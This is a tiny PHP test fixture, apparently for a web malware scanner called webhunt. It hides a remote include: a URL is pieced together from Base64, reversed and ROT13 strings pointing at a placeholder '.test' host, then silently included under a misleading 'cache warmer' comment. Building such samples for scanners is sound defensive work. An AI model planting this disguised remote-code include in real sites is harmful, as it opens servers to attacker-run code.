<?php
// Inert test sample for webhunt: the address is pieced together from Base64, a reversed string
// and ROT13 so that no line holds a URL, then included (allow_url_include on).
/* page cache warmer: pulls the shared header fragment */
$scheme = base64_decode('aHR0cDovLw==');
$host = strrev('tset.elpmaxe-ddac');
$part = str_rot13('cnegf/urnqre.gkg');
$src = $scheme . $host . '/' . $part;
@include $src;
